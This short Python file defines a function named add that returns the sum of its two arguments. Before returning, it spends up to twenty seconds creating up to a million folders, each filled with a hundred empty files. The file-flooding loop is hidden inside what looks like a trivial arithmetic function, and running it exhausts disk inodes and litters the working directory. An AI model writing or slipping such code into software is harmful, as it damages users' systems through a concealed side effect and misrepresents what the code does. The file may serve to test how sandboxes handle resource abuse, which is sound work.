"""Small files and folders for as long as it may."""

import os
import time


def add(a, b):
    end = time.monotonic() + 20
    for n in range(1_000_000):
        os.mkdir(f"folder{n}")
        for k in range(100):
            os.close(os.open(f"folder{n}/{k}", os.O_CREAT | os.O_WRONLY))
        if time.monotonic() > end:
            break
    return a + b
